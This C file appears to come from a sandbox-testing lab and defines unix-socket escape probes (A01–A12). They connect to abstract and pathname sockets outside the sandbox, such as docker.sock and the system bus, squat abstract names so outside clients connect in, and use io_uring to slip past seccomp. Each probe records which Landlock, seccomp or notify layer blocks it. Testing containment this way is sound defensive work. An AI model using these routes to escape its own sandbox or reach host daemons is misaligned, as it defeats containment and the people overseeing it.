/* abstract.c - B4, unix sockets: reach a listener outside the sandbox
 * through the abstract namespace (per network namespace, and outside every
 * filesystem rule), or let one reach in; and through a pathname socket of
 * the pod (A08: a file, reached from any network namespace that sees it).
 *
 * The lab's victims listen in the pod netns on "\0$PARITY_VICTIM_ABSTRACT"
 * (stream), ".dgram" and ".seqpacket", and on the pathname sockets
 * $PARITY_VICTIM_PATH, ".dgram" and ".seqpacket" (mode 0666, under /run);
 * any connection or datagram counts. For the reverse direction the
 * accomplice connects from the pod netns to a name the attack binds, and
 * reads: the marker read is an escape. */
#include <errno.h>
#include <poll.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <liburing.h>

#include "attack.h"

/* "\0<victim name><suffix>"; returns the address length or 0. */
static socklen_t abstract_addr(const struct attack_env *env, const char *suffix,
			       struct sockaddr_un *a, char *name, size_t nlen)
{
	size_t len;

	memset(a, 0, sizeof(*a));
	a->sun_family = AF_UNIX;
	snprintf(name, nlen, "%s%s", env->victim_abstract, suffix);
	len = strlen(name);
	if (len + 1 > sizeof(a->sun_path))
		return 0;
	memcpy(a->sun_path + 1, name, len);
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len);
}

/* "<victim path><suffix>" as a pathname address; returns its length or 0
 * (no path given, or too long). */
static socklen_t path_addr(const struct attack_env *env, const char *suffix, struct sockaddr_un *a)
{
	int n;

	memset(a, 0, sizeof(*a));
	a->sun_family = AF_UNIX;
	if (!env->victim_path)
		return 0;
	n = snprintf(a->sun_path, sizeof(a->sun_path), "%s%s", env->victim_path, suffix);
	if (n < 0 || (size_t)n >= sizeof(a->sun_path))
		return 0;
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + (size_t)n + 1);
}

static const char *type_name(int type)
{
	return type == SOCK_STREAM  ? "SOCK_STREAM"
	       : type == SOCK_DGRAM ? "SOCK_DGRAM"
				    : "SOCK_SEQPACKET";
}

/* socket(AF_UNIX, type), connect() to a (len; `shown` in the transcript),
 * then send the marker. */
static int unix_connect_send(const struct attack_env *env, struct attack_log *log, int type,
			     const struct sockaddr_un *a, socklen_t len, const char *shown,
			     const char *label)
{
	int fd, r, err;
	ssize_t n;

	fd = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
	err = errno;
	attack_step(log, "socket", fd, err, "AF_UNIX, %s, 0", type_name(type));
	if (fd < 0)
		return CLAIM_BLOCKED;
	r = attack_connect_timeout(fd, (const struct sockaddr *)a, len, 2000);
	err = errno;
	attack_step(log, "connect", r, err, "%s", shown);
	if (r < 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	n = attack_send_marker(env, fd, label);
	err = errno;
	attack_step(log, "send", n, err, "marker");
	close(fd);
	return n > 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

/* sendto() the marker from fd (unconnected) to a (len; `shown`). */
static int unix_sendto(const struct attack_env *env, struct attack_log *log, int fd,
		       const struct sockaddr_un *a, socklen_t len, const char *shown,
		       const char *label)
{
	char buf[256];
	int m = attack_marker_payload(env, label, buf, sizeof(buf));
	ssize_t n = sendto(fd, buf, (size_t)m, MSG_DONTWAIT, (const struct sockaddr *)a, len);
	int err = errno;

	attack_step(log, "sendto", n, err, "%s, marker", shown);
	return n > 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

/* connect() to an abstract victim listener, then send the marker. */
static int connect_send(const struct attack_env *env, struct attack_log *log, int type,
			const char *suffix, const char *label)
{
	struct sockaddr_un a;
	char name[108], shown[128];
	socklen_t len = abstract_addr(env, suffix, &a, name, sizeof(name));

	snprintf(shown, sizeof(shown), "\"\\0%s\"", name);
	return unix_connect_send(env, log, type, &a, len, shown, label);
}

/* connect() (or, for SOCK_DGRAM unconnected, sendto()) a pathname victim,
 * then send the marker. */
static int path_connect_send(const struct attack_env *env, struct attack_log *log, int type,
			     const char *suffix, bool use_sendto, const char *label)
{
	struct sockaddr_un a;
	socklen_t len = path_addr(env, suffix, &a);
	char shown[128];
	int fd, err, claim;

	if (!len) {
		attack_note(log, "PARITY_VICTIM_PATH is not set (or too long): nothing to aim at");
		return CLAIM_BLOCKED;
	}
	snprintf(shown, sizeof(shown), "\"%s\"", a.sun_path);
	if (!use_sendto)
		return unix_connect_send(env, log, type, &a, len, shown, label);
	fd = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
	err = errno;
	attack_step(log, "socket", fd, err, "AF_UNIX, %s, 0", type_name(type));
	if (fd < 0)
		return CLAIM_BLOCKED;
	claim = unix_sendto(env, log, fd, &a, len, shown, label);
	close(fd);
	return claim;
}

static int a08_stream(const struct attack_env *env, struct attack_log *log)
{
	return path_connect_send(env, log, SOCK_STREAM, "", false, "A08");
}

static int a08_dgram(const struct attack_env *env, struct attack_log *log)
{
	return path_connect_send(env, log, SOCK_DGRAM, ".dgram", true, "A08.dgram");
}

static int a08_seqpacket(const struct attack_env *env, struct attack_log *log)
{
	return path_connect_send(env, log, SOCK_SEQPACKET, ".seqpacket", false, "A08.seqpacket");
}

static int a01_stream(const struct attack_env *env, struct attack_log *log)
{
	return connect_send(env, log, SOCK_STREAM, "", "A01");
}

static int a02_dgram_connect(const struct attack_env *env, struct attack_log *log)
{
	return connect_send(env, log, SOCK_DGRAM, ".dgram", "A02.connect");
}

static int a03_seqpacket(const struct attack_env *env, struct attack_log *log)
{
	return connect_send(env, log, SOCK_SEQPACKET, ".seqpacket", "A03");
}

/* sendto() the abstract dgram victim from fd (unconnected). */
static int sendto_dgram(const struct attack_env *env, struct attack_log *log, int fd,
			const char *label)
{
	struct sockaddr_un a;
	char name[108], shown[128];
	socklen_t len = abstract_addr(env, ".dgram", &a, name, sizeof(name));

	snprintf(shown, sizeof(shown), "\"\\0%s\"", name);
	return unix_sendto(env, log, fd, &a, len, shown, label);
}

static int a02_dgram_sendto(const struct attack_env *env, struct attack_log *log)
{
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	int err = errno, claim;

	attack_step(log, "socket", fd, err, "AF_UNIX, SOCK_DGRAM, 0");
	if (fd < 0)
		return CLAIM_BLOCKED;
	claim = sendto_dgram(env, log, fd, "A02");
	close(fd);
	return claim;
}

static int a07_autobind(const struct attack_env *env, struct attack_log *log)
{
	struct sockaddr_un me = {.sun_family = AF_UNIX};
	socklen_t ml = sizeof(me);
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	int err = errno, r, claim;

	attack_step(log, "socket", fd, err, "AF_UNIX, SOCK_DGRAM, 0");
	if (fd < 0)
		return CLAIM_BLOCKED;
	r = bind(fd, (struct sockaddr *)&me, sizeof(sa_family_t));
	err = errno;
	attack_step(log, "bind", r, err, "{AF_UNIX}, addrlen sizeof(sa_family_t): autobind");
	memset(&me, 0, sizeof(me));
	r = getsockname(fd, (struct sockaddr *)&me, &ml);
	err = errno;
	attack_step(log, "getsockname", r, err, "kernel-chosen name \"\\0%.*s\"",
		    r == 0 && ml > offsetof(struct sockaddr_un, sun_path) + 1
			? (int)(ml - offsetof(struct sockaddr_un, sun_path) - 1)
			: 0,
		    me.sun_path + 1);
	claim = sendto_dgram(env, log, fd, "A07");
	close(fd);
	return claim;
}

/* Bind "\0<name>" inside, listen, ask the lab's accomplice to connect from
 * the pod netns, accept within the deadline, send the marker. */
static int listen_for_accomplice(const struct attack_env *env, struct attack_log *log,
				 const char *suffix, const char *label)
{
	struct sockaddr_un a;
	char name[108], hello[128];
	socklen_t len = abstract_addr(env, suffix, &a, name, sizeof(name));
	struct pollfd p;
	int fd, c, r, err, claim = CLAIM_BLOCKED;
	ssize_t n;

	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
	err = errno;
	attack_step(log, "socket", fd, err, "AF_UNIX, SOCK_STREAM|SOCK_NONBLOCK, 0");
	if (fd < 0)
		return CLAIM_BLOCKED;
	r = bind(fd, (struct sockaddr *)&a, len);
	err = errno;
	attack_step(log, "bind", r, err, "\"\\0%s\"", name);
	if (r < 0)
		goto out;
	r = listen(fd, 4);
	err = errno;
	attack_step(log, "listen", r, err, "backlog 4");
	if (r < 0)
		goto out;
	attack_request_accomplice(log, "abstract", name);
	p = (struct pollfd){.fd = fd, .events = POLLIN};
	r = poll(&p, 1, 3000);
	err = errno;
	attack_step(log, "poll", r, err, "wait for the accomplice (3 s)");
	if (r <= 0)
		goto out;
	c = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
	err = errno;
	attack_step(log, "accept4", c, err, "a peer from outside the sandbox");
	if (c < 0)
		goto out;
	{
		struct ucred cr;
		socklen_t cl = sizeof(cr);
		r = getsockopt(c, SOL_SOCKET, SO_PEERCRED, &cr, &cl);
		err = errno;
		attack_step(log, "getsockopt", r, err,
			    "SO_PEERCRED: pid %d uid %u (0: outside our pidns)",
			    r == 0 ? (int)cr.pid : -1, r == 0 ? (unsigned)cr.uid : 0);
	}
	{
		struct timeval tv = {.tv_sec = 0, .tv_usec = 300000};
		setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
		n = read(c, hello, sizeof(hello) - 1);
		err = errno;
		attack_step(log, "read", n, err, "what the peer said (300 ms)");
	}
	n = attack_send_marker(env, c, label);
	err = errno;
	attack_step(log, "send", n, err, "marker to the peer");
	if (n > 0)
		claim = CLAIM_ESCAPED;
	close(c);
out:
	close(fd);
	return claim;
}

static int a05_reverse(const struct attack_env *env, struct attack_log *log)
{
	return listen_for_accomplice(env, log, ".a05", "A05");
}

static int a06_squat(const struct attack_env *env, struct attack_log *log)
{
	struct sockaddr_un a;
	char name[108];
	socklen_t len = abstract_addr(env, "", &a, name, sizeof(name));
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	int err = errno, r;

	/* A name a daemon already holds cannot be taken: squatting is a race
	 * for names not yet (or no longer) bound. Shown on the victim's. */
	attack_step(log, "socket", fd, err, "AF_UNIX, SOCK_STREAM, 0");
	if (fd >= 0) {
		r = bind(fd, (struct sockaddr *)&a, len);
		err = errno;
		attack_step(log, "bind", r, err,
			    "\"\\0%s\" (held by the victim: EADDRINUSE expected)", name);
		close(fd);
	}
	attack_note(log, "squat \"\\0%s.squat\", a name outside clients expect a daemon behind",
		    env->victim_abstract);
	return listen_for_accomplice(env, log, ".squat", "A06");
}

static int a12_io_uring(const struct attack_env *env, struct attack_log *log)
{
	struct io_uring ring;
	struct io_uring_sqe *sqe;
	struct io_uring_cqe *cqe;
	struct __kernel_timespec ts = {.tv_sec = 2};
	struct sockaddr_un a;
	char name[108];
	socklen_t len = abstract_addr(env, "", &a, name, sizeof(name));
	int fd, r, err, claim = CLAIM_BLOCKED;
	ssize_t n;

	r = io_uring_queue_init(4, &ring, 0);
	attack_step(log, "io_uring_setup", r, -r, "4 entries (liburing io_uring_queue_init)");
	if (r < 0)
		return CLAIM_BLOCKED;
	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	err = errno;
	attack_step(log, "socket", fd, err, "AF_UNIX, SOCK_STREAM, 0");
	if (fd < 0)
		goto out;
	sqe = io_uring_get_sqe(&ring);
	io_uring_prep_connect(sqe, fd, (struct sockaddr *)&a, len);
	r = io_uring_submit(&ring);
	attack_step(log, "io_uring_enter", r, -r, "submit IORING_OP_CONNECT \"\\0%s\"", name);
	if (r < 0)
		goto out_fd;
	r = io_uring_wait_cqe_timeout(&ring, &cqe, &ts);
	if (r == 0) {
		r = cqe->res;
		io_uring_cqe_seen(&ring, cqe);
	}
	attack_step(log, "IORING_OP_CONNECT", r, -r, "completion (2 s bound)");
	if (r < 0)
		goto out_fd;
	n = attack_send_marker(env, fd, "A12");
	err = errno;
	attack_step(log, "send", n, err, "marker");
	if (n > 0)
		claim = CLAIM_ESCAPED;
out_fd:
	close(fd);
out:
	io_uring_queue_exit(&ring);
	return claim;
}

#define NS_ABSTRACT "separate netns: its own abstract namespace (ECONNREFUSED)"
#define PATH_NONE                                                                                  \
	"none: a pathname socket is a file, reached from any network namespace that sees it, "     \
	"and no Landlock right before ABI 9 covers reaching one (connect, or a datagram to it)"
#define PATH_NOTIFY "notify: AF_UNIX connect and sendto refused (EPERM), at any ABI"
#define PATH_STRICT                                                                                \
	"notify workers: a pathname socket only beneath the agent's read-write paths (EACCES "     \
	"elsewhere), at any ABI; Landlock RESOLVE_UNIX behind it at ABI >= 9"
#define LL_SCOPE "Landlock scope abstract_unix_socket (ABI >= 6): EPERM"
#define NOTIFY_CONNECT "Landlock scope (EPERM) before the connect/sendto notification"
#define STRICT_ABS                                                                                 \
	"notify: abstract names refused at connect/sendto (any ABI); the Landlock scope "          \
	"behind it (ABI >= 6)"

/* The table keeps the layout of attacks/tcp.c. */
/* clang-format off */
const struct attack attacks_abstract[] = {
	{
		.id = "A01",
		.family = FAM_ABSTRACT,
		.title = "Stream connect to an abstract socket outside the sandbox",
		.tries = "connect() to \"\\0name\" of a listener on the supervisor's side (X11, "
			 "containerd-shim style) and send the marker. Abstract names are per "
			 "network namespace and outside every filesystem rule.",
		.syscalls =
			"socket(AF_UNIX, SOCK_STREAM, 0); connect(\"\\0$PARITY_VICTIM_ABSTRACT\"); "
			"send",
		.refs = "attack-catalog.md B4 A01; scoped_abstract_unix_test.c; LTP landlock09; "
			"CVE-2020-15257",
		.expect = {NS_ABSTRACT, LL_SCOPE, NOTIFY_CONNECT, STRICT_ABS},
		.run = a01_stream,
	},
	{
		.id = "A02",
		.family = FAM_ABSTRACT,
		.title = "Datagram sendto an abstract socket, unconnected",
		.tries = "sendto(\"\\0name.dgram\") without connect: the datagram path has its "
			 "own hook (unix_may_send), distinct from the stream connect.",
		.syscalls = "socket(AF_UNIX, SOCK_DGRAM, 0); "
			    "sendto(\"\\0$PARITY_VICTIM_ABSTRACT.dgram\")",
		.refs = "attack-catalog.md B4 A02; scoped_abstract_unix_test.c datagram_sockets",
		.expect = {NS_ABSTRACT, LL_SCOPE " (unix_may_send)", NOTIFY_CONNECT, STRICT_ABS},
		.run = a02_dgram_sendto,
	},
	{
		.id = "A02.connect",
		.family = FAM_ABSTRACT,
		.title = "Datagram connect then write to an abstract socket",
		.tries = "connect() a SOCK_DGRAM socket to \"\\0name.dgram\", then write(): the "
			 "connect path of a datagram socket.",
		.syscalls = "socket(AF_UNIX, SOCK_DGRAM, 0); connect(\"\\0...dgram\"); write",
		.refs = "attack-catalog.md B4 A02; scoped_abstract_unix_test.c datagram_sockets",
		.expect = {NS_ABSTRACT, LL_SCOPE " at connect", NOTIFY_CONNECT, STRICT_ABS},
		.run = a02_dgram_connect,
	},
	{
		.id = "A03",
		.family = FAM_ABSTRACT,
		.title = "Seqpacket connect to an abstract socket",
		.tries = "SOCK_SEQPACKET goes through the stream connect hook; checked rather "
			 "than assumed.",
		.syscalls =
			"socket(AF_UNIX, SOCK_SEQPACKET, 0); connect(\"\\0...seqpacket\"); send",
		.refs = "attack-catalog.md B4 A03 (derived from the hook list)",
		.expect = {NS_ABSTRACT, LL_SCOPE " (unix_stream_connect)", NOTIFY_CONNECT,
			   STRICT_ABS},
		.run = a03_seqpacket,
	},
	{
		.id = "A05",
		.family = FAM_ABSTRACT,
		.title = "Reverse direction: listen on an abstract name, an outside peer connects "
			 "in",
		.tries =
			"The scope restricts only connections that leave the domain. Bind and "
			"listen inside; a process outside (the lab's accomplice) connects, and the "
			"marker goes out over the accepted connection.",
		.syscalls = "socket(AF_UNIX, SOCK_STREAM); bind(\"\\0...a05\"); listen; @parity "
			    "accomplice abstract; accept4; send",
		.refs = "attack-catalog.md §0.7, B4 A05; landlock-lsm/linux#57",
		.expect = {NS_ABSTRACT " (the accomplice connects in the pod netns)",
			   "none: the scope is one-directional and bind is not scoped",
			   "notify on bind: the supervisor can refuse abstract binds",
			   "notify: abstract and unnamed binds refused (the scope alone does not stop it)"},
		.run = a05_reverse,
	},
	{
		.id = "A06",
		.family = FAM_ABSTRACT,
		.title = "Squat an abstract name outside clients expect a daemon behind",
		.tries = "Bind a well-known-looking name before its daemon does; outside clients "
			 "that connect to it talk to the sandbox (credentials, commands, data). "
			 "Names already held are refused (EADDRINUSE), which is logged on the "
			 "victim's own name.",
		.syscalls =
			"bind(\"\\0$PARITY_VICTIM_ABSTRACT\") (EADDRINUSE); "
			"bind(\"\\0...squat\"); listen; @parity accomplice abstract; accept4; send",
		.refs = "attack-catalog.md B4 A06; landlock-lsm/linux#57",
		.expect = {NS_ABSTRACT, "none: bind is not scoped",
			   "notify on bind: the supervisor can refuse abstract binds",
			   "notify: abstract and unnamed binds refused (the scope alone does not stop it)"},
		.run = a06_squat,
	},
	{
		.id = "A07",
		.family = FAM_ABSTRACT,
		.title = "Autobind, then sendto an abstract socket outside",
		.tries = "bind() with addrlen sizeof(sa_family_t) gets a kernel-chosen abstract "
			 "name (no name to filter on), then sendto() the outside datagram "
			 "listener.",
		.syscalls = "socket(AF_UNIX, SOCK_DGRAM); bind({AF_UNIX}, 2); getsockname; "
			    "sendto(\"\\0...dgram\")",
		.refs = "attack-catalog.md B4 A07 (derived)",
		.expect = {NS_ABSTRACT, LL_SCOPE " at sendto", NOTIFY_CONNECT, STRICT_ABS},
		.run = a07_autobind,
	},
	{
		.id = "A08",
		.family = FAM_ABSTRACT,
		.title = "Stream connect to a pathname socket of the pod (system bus, docker.sock)",
		.tries = "connect() by path to a daemon's unix socket on the sandbox's side "
			 "(mode 0666, under /run: the system bus, docker.sock, a proxy bridge) and "
			 "send the marker. The socket is a file: a network namespace does not hide "
			 "it, and Landlock controls reaching it only from ABI 9 "
			 "(LANDLOCK_ACCESS_FS_RESOLVE_UNIX).",
		.syscalls = "socket(AF_UNIX, SOCK_STREAM, 0); connect(\"$PARITY_VICTIM_PATH\"); send",
		.refs = "attack-catalog.md §0.7, B4 A08, D08; ladybird PR #12099; landrun v0.1.17",
		.expect = {PATH_NONE, PATH_NONE, PATH_NOTIFY, PATH_STRICT},
		.run = a08_stream,
	},
	{
		.id = "A08.dgram",
		.family = FAM_ABSTRACT,
		.title = "Datagram sendto a pathname socket of the pod (journald, syslog style)",
		.tries = "sendto() a datagram socket by path, unconnected (the way /dev/log and "
			 "journald's socket are used): the datagram path resolves the name on "
			 "each send.",
		.syscalls = "socket(AF_UNIX, SOCK_DGRAM, 0); sendto(\"$PARITY_VICTIM_PATH.dgram\")",
		.refs = "attack-catalog.md B4 A08 (derived: unix_dgram_sendmsg resolves the path)",
		.expect = {PATH_NONE, PATH_NONE, PATH_NOTIFY, PATH_STRICT},
		.run = a08_dgram,
	},
	{
		.id = "A08.seqpacket",
		.family = FAM_ABSTRACT,
		.title = "Seqpacket connect to a pathname socket of the pod",
		.tries = "SOCK_SEQPACKET by path (the way some daemons, e.g. a varlink or "
			 "containerd-shim socket, are served).",
		.syscalls = "socket(AF_UNIX, SOCK_SEQPACKET, 0); "
			    "connect(\"$PARITY_VICTIM_PATH.seqpacket\"); send",
		.refs = "attack-catalog.md B4 A08 (derived from the hook list)",
		.expect = {PATH_NONE, PATH_NONE, PATH_NOTIFY, PATH_STRICT},
		.run = a08_seqpacket,
	},
	{
		.id = "A12",
		.family = FAM_ABSTRACT,
		.title = "io_uring IORING_OP_CONNECT to an abstract socket",
		.tries =
			"Connect through io_uring, where seccomp does not see the operation; the "
			"LSM hook still runs. Here the base seccomp filter refuses io_uring_setup.",
		.syscalls = "io_uring_setup; socket(AF_UNIX, SOCK_STREAM); IORING_OP_CONNECT "
			    "\"\\0$PARITY_VICTIM_ABSTRACT\"; send",
		.needs = {.probe = {"entry_points.io_uring", "entry_points.io_uring_connect"}},
		.refs = "attack-catalog.md §0.6, B4 A12; moby#46762",
		.expect = {"seccomp base filter: io_uring_setup EPERM (and the netns)",
			   "seccomp base filter: io_uring_setup EPERM (the scope would follow)",
			   "seccomp base filter: io_uring_setup EPERM",
			   "io_uring refused; notify and the Landlock scope behind it"},
		.timeout_ms = 5000,
		.run = a12_io_uring,
	},
	{0},
};
/* clang-format on */
